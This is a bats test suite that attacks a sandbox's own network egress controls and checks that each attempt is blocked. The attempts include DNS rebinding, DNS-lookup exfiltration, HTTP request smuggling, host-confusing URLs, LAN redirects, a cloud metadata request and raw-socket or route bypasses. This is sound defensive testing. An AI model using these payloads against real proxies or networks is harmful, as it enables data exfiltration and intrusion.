#!/usr/bin/env bats
# egress-attack.bats — coco's native egress attacked as a hostile tool
# would: DNS rebinding and exfiltration by lookup, HTTP smuggling through
# the plain proxy, redirects into the LAN, ports and names the allowlist
# does not give, every way around the proxy (direct TCP, UDP, ICMP, raw
# and packet sockets, routes, IPv6), volume and half-close, and SOCKS5's
# other commands.
#
# The "internet" is egress_net.bash's (see there for its addresses):
# webserv logs every request line that reaches it, dnsserv every query,
# datagram and ping, so each wall is judged from the host side: a
# marker the tool sent either appears in those logs or it does not.
# Each attack is first shown to work without coco, where it can, and
# every case runs as root and as a normal user.  The attacker inside is
# tests/helpers/netpoke.c, mounted on /workspace.

bats_require_minimum_version 1.5.0
load helpers

load egress_net

P=/workspace/netpoke

# A marker no earlier request used.
mark() { echo "m$RANDOM$RANDOM"; }

# What reached the test internet.
ws_log() { cat "$EG_DIR/webserv.log"; }
dns_log() { cat "$EG_DIR/dnsserv.log"; }

# reached LOG MARKER: did MARKER reach webserv or dnsserv?
reached() { grep -q -- "$2" "$EG_DIR/$1.log"; }
# never_reached LOG MARKER: fail (showing the log line) when it did.
never_reached() {
    if grep -- "$2" "$EG_DIR/$1.log"; then
        echo "$2 reached $1"
        return 1
    fi
}

# netpoke outside coco, as WHO (in WHO's working directory).
outside() { as "$1" ./netpoke "${@:2}"; }

@test "attack: every attack below works without coco" {
    local who m
    for who in root user; do
        m=$(mark)
        run outside "$who" tcp 198.51.100.10 9000 "GET /$m-tcp HTTP/1.0\r\n\r\n"
        assert_contains "hello from 198.51.100.10:9000"
        reached webserv "$m-tcp"
        run outside "$who" udp 198.51.100.10 5353 "$m-udp"
        reached dnsserv "$m-udp"
        run outside "$who" udp 198.51.100.10 53 "$m-udp53"
        reached dnsserv "$m-udp53"
        run as "$who" getent hosts "public-$m.dns.test"
        assert_contains 198.51.100.10
        reached dnsserv "query public-$m.dns.test"
        run outside "$who" dns 198.51.100.53 "raw-$m.dns.test"
        reached dnsserv "query raw-$m.dns.test"
        # keep-alive: every request on the connection reaches webserv
        run outside "$who" tcp 198.51.100.10 8080 "GET /$m-ka1 HTTP/1.1\r\nHost: good.test:8080\r\n\r\nGET /$m-ka2 HTTP/1.1\r\nHost: other.test:8080\r\n\r\n"
        reached webserv "$m-ka1"
        reached webserv "$m-ka2"
        run as "$who" curl -sS -m 10 -L http://good.test/redirect-lan
        assert_line "hello from 10.253.1.5:80"
        run outside "$who" echo direct 198.51.100.10 7000 64
        assert_status 0
        assert_contains "after the half-close: \"EOF 67108864 "
        if [[ -n $EG_V6 ]]; then
            run as "$who" curl -sS -m 10 -g "http://[2001:db8:100::10]/"
            assert_line "hello from 2001:db8:100::10:80"
            run as "$who" curl -sS -m 10 -g "http://[fd53::5]/"
            assert_line "hello from fd53::5:80"
            run outside "$who" tcp 2001:db8:100::10 9000 "GET /$m-tcp6 HTTP/1.0\r\n\r\n"
            reached webserv "$m-tcp6"
            run outside "$who" udp 2001:db8:100::10 53 "$m-udp6"
            reached dnsserv "$m-udp6"
        fi
    done
    # ICMP and raw sockets need root here (no ping group on the host)
    m=$(mark)
    run outside root ping 198.51.100.10 "$m-ping"
    assert_contains "ping-raw: ok"
    reached dnsserv "$m-ping"
    run outside root packet
    assert_status 0
    run unshare -n sh -c 'ip link set lo up && ip route add 192.0.2.0/24 dev lo && ip route show'
    assert_contains "192.0.2.0/24 dev lo"
}

@test "attack: DNS rebinding: the proxy dials only an address it checked, never the LAN" {
    net_config_ws web '"allowed_hosts": ["*.dns.test"]'
    local who m name
    for who in root user; do
        m=$(mark)
        name=rebind-$m.dns.test
        # first answer public, every later one the LAN host: three
        # connections, by the explicit proxy, CONNECT and capture
        run --separate-stderr coco_sh "$who" web "$CURL http://$name/$m-1;
            $CURL -i http://$name/$m-2 | tr -d '\\r';
            $CURL -p -o /dev/null -w 'connect %{http_connect}\n' http://$name/$m-3;
            $CURL --noproxy '*' http://$name/$m-4; echo curl=\$?"
        assert_line "hello from 198.51.100.10:80"
        assert_line "X-Coco-Egress: blocked-range:10.0.0.0/8"
        assert_line "connect 403"
        refute_contains "hello from 10.253.1.5"
        # the server did rebind (the test can fail) ...
        grep -q "query $name 1 -> 198.51.100.10" "$EG_DIR/dnsserv.log"
        grep -q "query $name 1 -> 10.253.1.5" "$EG_DIR/dnsserv.log"
        # ... and the LAN host saw none of it
        run grep "10.253.1.5:80 got.*$m" "$EG_DIR/webserv.log"
        assert_status 1
        reached webserv "198.51.100.10:80 got GET /$m-1"
        # every allowed line dialled the address that was checked
        run audit_log "$who"
        local allow
        allow=$(grep "\"host\":\"$name\"" <<<"$output" | grep -v '"how":"dns"' |
            grep '"verdict":"allow"')
        [[ -n $allow ]]
        run grep -v '"dialed":"198.51.100.10"' <<<"$allow"
        assert_status 1
        # one answer with a public and a LAN address; a public A with a
        # private AAAA; a private answer alone: all refused
        run coco_sh "$who" web "$CURL -i http://both-$m.dns.test/$m-b | tr -d '\\r';
            $CURL -i http://private-$m.dns.test/$m-p | tr -d '\\r';
            $CURL -o /dev/null -w '%{http_code}\n' --socks5-hostname 127.0.0.1:3128 http://private2-$m.dns.test/$m-p2;
            $CURL -i http://mixed-$m.dns.test/$m-x | tr -d '\\r';
            $CURL -o /dev/null -w '%{http_code}\n' http://mapped-$m.dns.test/$m-y"
        refute_contains "hello from"
        assert_line "X-Coco-Egress: blocked-range:10.0.0.0/8"
        assert_line "X-Coco-Egress: blocked-range:fc00::/7"
        assert_line 403  # mapped-: the AAAA is the LAN, mapped
        grep -q "query both-$m.dns.test 1 -> 198.51.100.10 10.253.1.5" "$EG_DIR/dnsserv.log"
        grep -q "query mixed-$m.dns.test 28 -> fd53::5" "$EG_DIR/dnsserv.log"
        never_reached webserv "$m-b"
        never_reached webserv "$m-p"
        never_reached webserv "$m-x"
        never_reached webserv "$m-y"
        # a LAN address after eight public ones in one answer: still a
        # name that points into the LAN
        run coco_sh "$who" web "$CURL -i http://many-$m.dns.test/$m-n | tr -d '\\r'"
        grep -q "query many-$m.dns.test 1 -> 198.51.100.10 198.51.100.16-22 10.253.1.5" "$EG_DIR/dnsserv.log"
        assert_line "X-Coco-Egress: blocked-range:10.0.0.0/8"
        never_reached webserv "$m-n"
    done
}

@test "attack: the tool's own lookups never reach a DNS server" {
    net_config_ws web '"allowed_hosts": ["good.test", "*.allowed.dns.test"]'
    local who m
    for who in root user; do
        m=$(mark)
        run coco_sh "$who" web "getent hosts exfil-$m.dns.test; echo getent=\$?
            getent hosts public-$m.dns.test; echo getent=\$?
            $P dns 198.51.100.53 exfil2-$m.dns.test
            $P dns 198.51.100.10 exfil3-$m.dns.test
            [ -z '$EG_V6' ] || $P dns 2001:db8:100::10 exfil4-$m.dns.test
            getent hosts x-$m.allowed.dns.test"
        assert_line "getent=2"
        refute_contains "198.51.100.10"
        assert_contains "rcode 5 answers none"
        # an allowed name gets a fake address from the stub, unasked of
        # any server
        assert_contains "x-$m.allowed.dns.test"
        [[ $output == *198.1[89].*" x-$m.allowed.dns.test"* ]] || { echo "$output"; return 1; }
        never_reached dnsserv "$m"
        # the refusals are in the audit log
        run audit_log "$who"
        assert_contains "\"requested\":\"exfil-$m.dns.test\""
        assert_contains '"reason":"dns-not-allowlisted"'
    done
}

@test "attack: plain HTTP through the proxy: no Host mismatch, no second request, no origin form, no https URL" {
    net_config_ws web '"allowed_hosts": ["good.test", "good.test:8080"]'
    local who m
    for who in root user; do
        m=$(mark)
        # an absolute-form target with another Host header
        run coco_sh "$who" web "$P tcp 127.0.0.1 3128 'GET http://good.test/$m-h HTTP/1.1\r\nHost: other.test\r\n\r\n' | tr -d '\\r'"
        assert_contains "HTTP/1.1 403"
        assert_line "X-Coco-Egress: bad-request:host-mismatch"
        never_reached webserv "$m-h"
        # a second (and third) request on a kept-alive connection: only
        # the first reaches the server that keeps connections alive
        run coco_sh "$who" web "$P tcp 127.0.0.1 3128 'GET http://good.test:8080/$m-k1 HTTP/1.1\r\nHost: good.test:8080\r\n\r\nGET http://other.test:8080/$m-k2 HTTP/1.1\r\nHost: other.test:8080\r\n\r\nGET http://good.test:8080/$m-k3 HTTP/1.1\r\nHost: good.test:8080\r\n\r\n'"
        assert_contains "hello from 198.51.100.10:8080"
        reached webserv "$m-k1"
        never_reached webserv "$m-k2"
        never_reached webserv "$m-k3"
        # a body that smuggles a request: only the framed body goes up
        run coco_sh "$who" web "$P tcp 127.0.0.1 3128 'POST http://good.test:8080/$m-s1 HTTP/1.1\r\nHost: good.test:8080\r\nContent-Length: 4\r\n\r\nabcdGET http://good.test:8080/$m-s2 HTTP/1.1\r\nHost: good.test:8080\r\n\r\n'"
        reached webserv "$m-s1"
        never_reached webserv "$m-s2"
        # the same with a chunked body that ends early
        run coco_sh "$who" web "$P tcp 127.0.0.1 3128 'POST http://good.test:8080/$m-c1 HTTP/1.1\r\nHost: good.test:8080\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://good.test:8080/$m-c2 HTTP/1.1\r\nHost: good.test:8080\r\n\r\n'"
        reached webserv "$m-c1"
        never_reached webserv "$m-c2"
        # targets that name two hosts to two parsers
        run coco_sh "$who" web "for t in 'http://good.test@lan.test/$m-u1' 'http://lan.test\\\\@good.test/$m-u2' 'http://lan.test%2fgood.test/$m-u3' 'http://lan.test:80@good.test/$m-u4' 'http://10.253.1.5/$m-u5?good.test'; do
                $P tcp 127.0.0.1 3128 \"GET \$t HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n\" | tr -d '\\r' | grep '^HTTP/'; done"
        [[ $(grep -c '^HTTP/1.1 4[0-9][0-9] ' <<<"$output") -eq 5 ]] || { echo "$output"; return 1; }
        for s in u1 u2 u3 u4 u5; do never_reached webserv "$m-$s"; done
        # a client that half-closes after its request still gets the answer
        run coco_sh "$who" web "$P tcphalf 127.0.0.1 3128 'GET http://good.test/$m-hc HTTP/1.1\r\nHost: good.test\r\n\r\n'"
        assert_contains "hello from 198.51.100.10:80"
        reached webserv "$m-hc"
        # origin form and an https:// URL: refused
        run coco_sh "$who" web "$P tcp 127.0.0.1 3128 'GET /$m-o HTTP/1.1\r\nHost: good.test\r\n\r\n' | tr -d '\\r';
            $P tcp 127.0.0.1 3128 'GET https://good.test/$m-https HTTP/1.1\r\nHost: good.test\r\n\r\n' | tr -d '\\r'"
        assert_line "X-Coco-Egress: bad-request:origin-form"
        assert_line "X-Coco-Egress: bad-request:https-url"
        refute_contains "hello from"
        never_reached webserv "$m-o"
        never_reached webserv "$m-https"
    done
}

@test "attack: a redirect into the LAN ends refused" {
    net_config_ws web '"allowed_hosts": ["good.test"]'
    net_config_ws full '"network": "full"'
    local who cfg
    for who in root user; do
        for cfg in web full; do
            run coco_sh "$who" "$cfg" "$CURL -L -i http://good.test/redirect-lan | tr -d '\\r'"
            assert_contains "HTTP/1.0 302"
            assert_line "Location: http://10.253.1.5/"
            assert_contains "HTTP/1.1 403"
            refute_contains "hello from 10.253.1.5"
        done
    done
}

@test "attack: CONNECT to a port the allowlist does not name; wildcard, apex and look-alike names" {
    net_config_ws web '"allowed_hosts": ["good.test"]'
    net_config_ws wild '"allowed_hosts": ["*.good.test"]'
    local who
    for who in root user; do
        run coco_sh "$who" web "$CURL -p http://good.test/;
            $CURL -p -o /dev/null -w 'connect %{http_connect}\n' http://good.test:9000/;
            $CURL -p -o /dev/null -w 'connect %{http_connect}\n' http://good.test:8443/"
        assert_line "hello from 198.51.100.10:80"
        [[ $(grep -c '^connect 403$' <<<"$output") -eq 2 ]] || { echo "$output"; return 1; }
        refute_contains "hello from 198.51.100.10:9000"
        run coco_sh "$who" wild "$CURL http://www.good.test/; $CURL -p http://www.good.test/;
            for h in good.test evilgood.test www.evilgood.test; do
                $CURL -o /dev/null -w \"\$h %{http_code}\n\" http://\$h/
                $CURL -p -o /dev/null -w \"\$h connect %{http_connect}\n\" http://\$h/
                $CURL -o /dev/null -w \"\$h socks \" --socks5-hostname 127.0.0.1:3128 http://\$h/; echo \$?
            done"
        [[ $(grep -c '^hello from 198.51.100.10:80$' <<<"$output") -eq 2 ]] || { echo "$output"; return 1; }
        assert_line "good.test 403"
        assert_line "good.test connect 403"
        assert_line "evilgood.test 403"
        assert_line "evilgood.test connect 403"
        assert_line "www.evilgood.test 403"
        refute_line "good.test socks 0"
        refute_line "evilgood.test socks 0"
    done
}

@test "attack: around the proxy: direct TCP, UDP, ICMP, raw and packet sockets, routes, IPv6" {
    net_config_ws web '"allowed_hosts": ["good.test"]'
    net_config_ws full '"network": "full"'
    local who m cfg v6=''
    for who in root user; do
        for cfg in web full; do
            m=$(mark)
            [[ -z $EG_V6 ]] || v6="
                $P tcp 2001:db8:100::10 9000 'GET /$m-t6 HTTP/1.0\r\n\r\n'
                $P tcp fd53::5 80 'GET /$m-lan6 HTTP/1.0\r\n\r\n'
                $P udp 2001:db8:100::10 53 $m-u6
                $P ping 2001:db8:100::10 $m-p6"
            run coco_sh "$who" "$cfg" "unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy
                $P tcp 198.51.100.10 9000 'GET /$m-t1 HTTP/1.0\r\n\r\n'
                $P tcp 10.253.1.5 80 'GET /$m-t2 HTTP/1.0\r\n\r\n'
                $P tcp 169.254.169.254 80 'GET /$m-t3 HTTP/1.0\r\n\r\n'
                $P udp 198.51.100.10 53 $m-u1
                $P udp 198.51.100.10 5353 $m-u2
                $P udp 198.51.100.53 53 $m-u3
                $P ping 198.51.100.10 $m-p1
                $P packet
                /usr/sbin/ip route add 198.51.100.0/24 dev lo; echo route=\$?
                /usr/sbin/ip route del local default; echo route=\$?
                $P tcp 198.51.100.10 9000 'GET /$m-t4 HTTP/1.0\r\n\r\n'
                $v6"
            refute_contains "hello from"
            assert_contains "packet: blocked"
            refute_line "route=0"
            assert_contains "ping-raw: blocked"
            local s
            for s in t1 t2 t3 t4 t6 lan6; do never_reached webserv "$m-$s"; done
            for s in u1 u2 u3 u6 p1 p6; do never_reached dnsserv "$m-$s"; done
        done
        # IPv6 literals through the proxy: not allowlisted, or private
        if [[ -n $EG_V6 ]]; then
            m=$(mark)
            run coco_sh "$who" web "$CURL -g -i 'http://[2001:db8:100::10]/$m-a' | tr -d '\\r'"
            assert_line "X-Coco-Egress: ip-literal-not-allowlisted"
            run coco_sh "$who" full "$CURL -g 'http://[2001:db8:100::10]/$m-b';
                $CURL -g -i 'http://[fd53::5]/$m-c' | tr -d '\\r';
                $CURL -g -i 'http://[::ffff:10.253.1.5]/$m-d' | tr -d '\\r'"
            assert_line "hello from 2001:db8:100::10:80"
            assert_line "X-Coco-Egress: blocked-range:fc00::/7"
            assert_line "X-Coco-Egress: blocked-range:10.0.0.0/8"
            never_reached webserv "$m-a"
            reached webserv "$m-b"
            never_reached webserv "$m-c"
            never_reached webserv "$m-d"
        fi
    done
}

@test "attack: 64 MiB each way intact through CONNECT and capture, and a half-close passes" {
    net_config_ws web '"allowed_hosts": ["good.test:7000"]'
    local who
    for who in root user; do
        run coco_sh "$who" web "$P echo via good.test 7000 64
            fake=\$(getent ahostsv4 good.test | awk '{print \$1; exit}')
            $P echo direct \$fake 7000 64"
        # the client saw its own bytes back, then the server's trailer,
        # which it only sends after the half-close reached it
        [[ $(grep -c 'echo: ok sent 67108864 hash .*; echoed 67108864 identical; after the half-close: "EOF 67108864 .*", then EOF' <<<"$output") -eq 2 ]] || {
            echo "$output"
            return 1
        }
        # and the server, on the host side, hashed the same bytes
        local h
        while read -r h; do
            grep -q "198.51.100.10:7000 echo: EOF 67108864 $h" "$EG_DIR/webserv.log"
        done < <(grep -o 'hash [0-9a-f]*' <<<"$output" | awk '{print $2}')
    done
}

@test "attack: SOCKS5: domain, IPv4 and IPv6 targets decided alike; BIND and UDP ASSOCIATE refused" {
    net_config_ws web '"allowed_hosts": ["good.test"]'
    net_config_ws full '"network": "full"'
    local who m s v6=''
    for who in root user; do
        m=$(mark)
        [[ -z $EG_V6 ]] || v6="
            $P socks5 connect ipv6 2001:db8:100::10 80 'GET /$m-6 HTTP/1.0\r\n\r\n'
            $P socks5 connect ipv6 fd53::5 80 'GET /$m-6l HTTP/1.0\r\n\r\n'"
        run coco_sh "$who" full "$P socks5 connect domain good.test 80 'GET /$m-d HTTP/1.0\r\n\r\n'
            $P socks5 connect ipv4 198.51.100.10 80 'GET /$m-4 HTTP/1.0\r\n\r\n'
            $P socks5 connect ipv4 10.253.1.5 80 'GET /$m-4l HTTP/1.0\r\n\r\n'
            $P socks5 connect ipv6 ::ffff:10.253.1.5 80 'GET /$m-4m HTTP/1.0\r\n\r\n'
            $P socks5 connect domain lan.test 80 'GET /$m-dl HTTP/1.0\r\n\r\n'
            $v6
            $P socks5 bind ipv4 198.51.100.10 80
            $P socks5 udp ipv4 0.0.0.0 0
            $P socks5 udp ipv4 198.51.100.10 5353"
        reached webserv "$m-d"
        reached webserv "$m-4"
        [[ -z $EG_V6 ]] || {
            reached webserv "$m-6"
            assert_line "hello from 2001:db8:100::10:80"
        }
        for s in 4l 4m dl 6l; do never_reached webserv "$m-$s"; done
        [[ $(grep -c 'socks5: refused: reply 0x02' <<<"$output") -eq $((3 + ${EG_V6:-0})) ]] || {
            echo "$output"
            return 1
        }
        [[ $(grep -c 'socks5: refused: reply 0x07' <<<"$output") -eq 3 ]] || {
            echo "$output"
            return 1
        }
        # under an allowlist an IP literal is not the name it serves
        m=$(mark)
        run coco_sh "$who" web "$P socks5 connect ipv4 198.51.100.10 80 'GET /$m-a HTTP/1.0\r\n\r\n'
            $P socks5 connect domain good.test 80 'GET /$m-b HTTP/1.0\r\n\r\n'"
        assert_contains "socks5: refused: reply 0x02"
        never_reached webserv "$m-a"
        reached webserv "$m-b"
    done
}
